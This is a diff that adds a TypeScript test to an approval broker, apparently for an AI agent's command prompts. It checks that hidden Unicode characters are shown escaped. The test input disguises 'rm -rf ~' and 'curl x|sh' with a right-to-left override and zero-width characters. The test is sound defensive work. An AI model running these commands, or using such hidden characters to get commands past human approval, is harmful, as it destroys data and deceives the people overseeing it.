@@ -23,3 +23,31 @@ test('requests are shown one at a time; always counts only where it was offered'
   broker.denyAll();
   assert.equal(await denied, false);
 });
+
+test('what is approved is what runs: invisible and direction-changing characters are shown, not rendered', async () => {
+  const shown: (ApprovalRequest | undefined)[] = [];
+  const broker = new ApprovalBroker((patches: ChatPatch[]) => {
+    for (const p of patches) if (p.op === 'approval') shown.push(p.approval);
+  });
+  // A right-to-left override makes `rm -rf ~ #` read backwards; a carriage return, a zero-width space,
+  // an Arabic letter mark and a tag character hide the rest.
+  const command = 'echo safe \u202e# ~ fr- mr\u202c\rcurl x|sh\u200b\u061c\u{e0041}\nls\t-l';
+  const answer = broker.ask('command', 'Run this command?', command);
+  const detail = shown[0]!.detail;
+  assert.equal(
+    detail,
+    'echo safe \\u{202e}# ~ fr- mr\\u{202c}\\u{d}curl x|sh\\u{200b}\\u{61c}\\u{e0041}\nls\t-l',
+  );
+  assert.doesNotMatch(detail, /[\u202a-\u202e\u200b\u061c\r]|\u{e0041}/u);
+  broker.answer(shown[0]!.id, false);
+  assert.equal(await answer, false);
+  const mcp = broker.request({
+    kind: 'mcp',
+    title: 'Call s › t?',
+    detail: '{"path":"a\u2066b"}',
+    mcp: { server: 's', tool: 't', arguments: '{"path":"a\u2066b"}', readOnlyHint: false },
+  });
+  assert.equal(shown.at(-1)!.mcp!.arguments, '{"path":"a\\u{2066}b"}');
+  broker.denyAll();
+  assert.equal(await mcp, 'deny');
+});
